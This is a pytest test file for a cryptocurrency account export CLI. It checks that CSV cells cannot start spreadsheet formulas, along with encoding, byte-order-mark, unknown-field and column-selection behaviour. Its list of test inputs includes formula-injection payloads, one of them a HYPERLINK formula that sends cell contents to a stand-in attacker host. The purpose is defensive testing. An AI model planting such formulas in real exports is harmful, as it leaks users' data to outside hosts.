"""The cells of exports: formulas, encodings, unknown fields, the choice of columns."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from whitebit_ext.cli.account.target import columns_of
from whitebit_ext.sandbox import HistoryName, Sandbox

from .exporting import COUNT, lines_of, run

pytestmark = pytest.mark.usefixtures("sandbox")
COMMAND = "from whitebit_ext.cli import main; main()"
FORMULAS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"Details")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1",
    "\uff1d1+1",
)


def put(sandbox: Sandbox, read: HistoryName, *changes: Mapping[str, Any]) -> None:
    """Replace a history with as many rows as given, each changed."""
    history = sandbox.history("alice")
    rows = history.rows(read)[: len(changes)]
    history.put(read, [{**row, **change} for row, change in zip(rows, changes, strict=True)])


def memos(text: str) -> list[str]:
    """Return the memos of CSV, in its order."""
    return [row["memo"] for row in csv.DictReader(io.StringIO(text, newline=""))]


def test_formulas_are_neutralised(sandbox: Sandbox, tmp_path: Path) -> None:
    """No text of another person begins a formula, unless `--raw-cells` asks for it."""
    put(sandbox, "transactions", *({"memo": memo} for memo in FORMULAS))
    file = tmp_path / "t.csv"
    run("transactions", "--out", str(file))
    written = memos(file.read_bytes().decode())
    assert sorted(written) == sorted(f"'{memo}" for memo in FORMULAS)
    raw = memos(run("transactions", "--format", "csv", "--raw-cells").stdout_bytes.decode())
    assert sorted(raw) == sorted(FORMULAS)
    objects = lines_of(run("transactions", "--format", "jsonl").stdout)
    assert sorted(row["memo"] for row in objects) == sorted(FORMULAS)


def test_negative_amounts_are_numbers(sandbox: Sandbox) -> None:
    """An amount is written as it is, whatever its sign."""
    put(sandbox, "transactions", {"amount": "-1.50", "fee": "-0.1"})
    (row,) = csv.DictReader(io.StringIO(run("transactions", "--format", "csv").stdout))
    assert (row["amount"], row["fee"]) == ("-1.50", "-0.1")


@pytest.mark.parametrize(
    ("format", "encoding"), [("csv", "cp1252"), ("jsonl", "ascii"), ("table", "ascii")]
)
def test_output_is_utf8_whatever_the_locale(sandbox: Sandbox, format: str, encoding: str) -> None:
    """Cyrillic and a lone surrogate are written to a pipe of any encoding."""
    texts = {"memo": "\u041f\u0435\u0440\u0435\u043a\u0430\u0437", "address": "a\ud800b"}
    put(sandbox, "transactions", texts)
    arguments = ["account", "transactions", "--user", "alice", "--format", format]
    chosen = ["--columns", "memo,address"]
    done = subprocess.run(
        [sys.executable, "-c", COMMAND, *arguments, *chosen],
        env=os.environ | {"PYTHONIOENCODING": encoding, "LC_ALL": "C"},
        capture_output=True,
        check=False,
    )
    assert (done.returncode, done.stderr) == (0, b"")
    text = done.stdout.decode()
    if format == "jsonl":
        assert json.loads(text) == texts
    else:
        assert texts["memo"] in text
        assert ("a\\ud800b" if format == "csv" else "a\ufffdb") in text


def test_byte_order_mark(tmp_path: Path) -> None:
    """`--bom` begins the file with one, once, and it does not disturb `--append`."""
    file = tmp_path / "deals.csv"
    run("deals", "--out", str(file), "--bom", "--page-size", "50")
    before = file.read_bytes()
    assert (before[:3], before.count(b"\xef\xbb\xbf")) == (b"\xef\xbb\xbf", 1)
    run("deals", "--out", str(file), "--bom", "--append")
    assert file.read_bytes() == before
    assert run("deals", "--format", "csv", "--bom").stdout_bytes.startswith(b"\xef\xbb\xbf")


def test_unknown_fields_on_request(sandbox: Sandbox) -> None:
    """Fields that are not documented are in a column of their own, if it is wanted."""
    put(sandbox, "deals", {"liquidity": {"pool": "1.10"}})
    (row,) = csv.DictReader(io.StringIO(run("deals", "--format", "csv", "--unknown").stdout))
    assert json.loads(row["unknown"]) == {"liquidity": {"pool": "1.10"}}
    (row,) = lines_of(run("deals", "--format", "jsonl").stdout)
    assert "unknown" not in row
    assert "liquidity" in run("deals", "--unknown").stdout


def test_unknown_fields_of_balances(sandbox: Sandbox) -> None:
    """A field of a balance that is not documented is kept (case C73)."""
    body = {"BTC": {"available": "1", "freeze": "0", "borrowed": "2"}}
    operation = "get_trade_account_balance"
    sandbox.faults.add(operation, kind="status", status=200, body=json.dumps(body), nth=1)
    rows = lines_of(run("balances", "--format", "jsonl", "--unknown").stdout)
    found = {row["ticker"]: row["unknown"] for row in rows}
    assert found["BTC"] == {"spot": {"borrowed": "2"}}


@pytest.mark.parametrize("format", ["csv", "jsonl", "json", "table"])
def test_choice_of_columns(format: str) -> None:
    """The chosen columns come in their order, in every format."""
    said = run("orders", "--columns", "id,market, amount", "--format", format).stdout
    if format == "table":
        assert said.split()[:3] == ["id", "Market", "Amount"]
        return
    if format == "csv":
        rows = list(csv.DictReader(io.StringIO(said)))
    else:
        rows = lines_of(said) if format == "jsonl" else json.loads(said)
    assert len(rows) == COUNT
    assert {tuple(row) for row in rows} == {("id", "market", "amount")}


@pytest.mark.parametrize("columns", ["", "id,", "id,id", "id,price,nothing"])
def test_wrong_columns_are_named(columns: str) -> None:
    """A column that does not exist is refused, with those that do."""
    said = run("deals", "--columns", columns, "--format", "csv", code=2).stderr
    assert ", ".join(columns_of("deals")) in said
    assert said.count("\n") == 1
